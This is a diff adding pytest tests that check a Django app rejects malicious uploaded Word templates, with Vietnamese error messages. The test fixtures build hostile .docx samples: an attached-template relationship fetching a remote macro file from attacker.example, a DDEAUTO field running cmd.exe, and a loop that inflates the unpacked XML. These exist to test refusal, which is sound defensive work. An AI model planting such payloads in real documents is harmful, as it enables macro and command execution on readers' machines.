@@ -8,9 +8,10 @@ import zipfile
 from datetime import date
 
 import pytest
-from django.core.exceptions import PermissionDenied
+from django.core.exceptions import PermissionDenied, ValidationError
 from docx import Document
 
+from cchc.core import documents
 from cchc.core.services import ServiceError
 from cchc.organizations.models import Agency, AgencyLevel
 from cchc.reports import document_templates as templates
@@ -261,3 +262,139 @@ def test_a_template_failing_on_a_real_report_is_said_not_a_system_error(
         report_generate(actor=dept_officer, report=report)
     report.refresh_from_db()
     assert not report.docx_path and report.generated_at is None
+
+
+# --- what a template renders, and what it carries into every agency's documents -------------
+
+KIND = DocumentKind.PERIODIC_REPORT
+
+
+def zip_edited(replace=None, extra=None) -> bytes:
+    """The bundled template with parts changed in its zip (`replace`: name → function of the
+    part's bytes) or added: what python-docx would not write."""
+    source = zipfile.ZipFile(io.BytesIO(bundled_template(KIND)))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if replace and info.filename in replace:
+                data = replace[info.filename](data)
+            target.writestr(info.filename, data)
+        for name, data in (extra or {}).items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("kind", sorted(DocumentKind.values))
+def test_the_bundled_templates_pass_the_upload_checks(kind):
+    assert templates.check_template(kind, bundled_template(kind), "Lai Châu")
+
+
+def test_a_template_whose_output_unpacks_past_the_limit_is_refused(monkeypatch):
+    """A 39 KB annex template wrote a million paragraphs: a 144 KB .docx of 34 MB of XML,
+    parsed twice more in the server process (1,7 GB)."""
+    monkeypatch.setattr(documents, "UNPACKED_MAX", 1024 * 1024)
+
+    def many_paragraphs(xml: bytes) -> bytes:
+        text = xml.decode()
+        at = text.index("<w:sectPr")
+        loop = (
+            "<w:p><w:r><w:t>{%p for i in range(400) %}</w:t></w:r></w:p>"
+            + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100
+            + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>"
+        )
+        return (text[:at] + loop + text[at:]).encode()
+
+    template = zip_edited({"word/document.xml": many_paragraphs})
+    assert len(template) < 64 * 1024
+    with pytest.raises(ValidationError) as refused:
+        templates.check_template(KIND, template, "Lai Châu")
+    assert refused.value.messages == [
+        "Mẫu văn bản không dùng được: văn bản tạo từ mẫu khi giải nén lớn hơn 1 MB (một vòng "
+        "lặp trong mẫu lặp lại quá nhiều nội dung?)."
+    ]
+
+
+SETTINGS_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
+    b'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT1" Type="'
+    b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://attacker.example/payload.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def _attached_template(xml: bytes) -> bytes:
+    text = xml.decode()
+    if 'xmlns:r="' not in text[: text.index(">", text.index("<w:settings"))]:
+        text = text.replace(
+            "<w:settings ",
+            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+            'relationships" ',
+            1,
+        )
+    at = text.index(">", text.index("<w:settings")) + 1
+    return (text[:at] + '<w:attachedTemplate r:id="rIdT1"/>' + text[at:]).encode()
+
+
+def test_a_template_that_loads_a_remote_macro_template_is_refused():
+    """Word fetches the attached .dotm when it opens the document, and can run its macros."""
+    template = zip_edited(
+        {"word/settings.xml": _attached_template}, {"word/_rels/settings.xml.rels": SETTINGS_RELS}
+    )
+    with pytest.raises(ValidationError) as refused:
+        templates.check_template(KIND, template, "Lai Châu")
+    message = refused.value.messages[0]
+    assert message.startswith(
+        "Tệp mẫu gắn với một mẫu Word khác (http://attacker.example/payload.dotm), nơi có thể "
+        "chứa macro"
+    )
+    assert message.endswith("rồi lưu lại mẫu.")
+
+
+@pytest.mark.parametrize(
+    ("target", "refused"),
+    [
+        ("file:///C:\\Users\\vanphong\\Templates\\Mau-bao-cao.dotx", False),
+        ("file:///D:/Mau/Mau-bao-cao.dotx", False),
+        ("\\\\may-chu\\chia-se\\mau.dotm", True),
+        ("file://may-chu/chia-se/mau.dotm", True),
+        ("https://example.org/mau.dotm", True),
+    ],
+)
+def test_a_template_made_from_one_on_the_author_s_disk_is_accepted(target, refused):
+    """A document made in Word from a template on its author's disk names that template; on
+    any other computer Word finds nothing there and fetches nothing, so such a template is
+    accepted. One named by an address or a network share is refused."""
+    rels = SETTINGS_RELS.replace(b"http://attacker.example/payload.dotm", target.encode())
+    template = zip_edited(
+        {"word/settings.xml": _attached_template}, {"word/_rels/settings.xml.rels": rels}
+    )
+    if refused:
+        with pytest.raises(ValidationError, match="gắn với một mẫu Word khác"):
+            templates.check_template(KIND, template, "Lai Châu")
+    else:
+        assert templates.check_template(KIND, template, "Lai Châu").startswith(b"PK")
+
+
+def test_a_template_with_a_ddeauto_field_is_refused():
+    field = (
+        '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
+        'xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>'
+    )
+    template = zip_edited(
+        {
+            "word/document.xml": lambda xml: (
+                xml.decode().replace("{{ signer_name }}", "{{ signer_name }}" + field).encode()
+            )
+        }
+    )
+    with pytest.raises(ValidationError) as refused:
+        templates.check_template(KIND, template, "Lai Châu")
+    assert refused.value.messages[0].startswith(
+        "Tệp mẫu có trường DDEAUTO (word/document.xml: “DDEAUTO c:\\\\windows\\\\system32"
+    )
+    assert (
+        "hãy xóa trường đó (Alt+F9 để hiện mã trường) rồi lưu lại mẫu."
+        in (refused.value.messages[0])
+    )
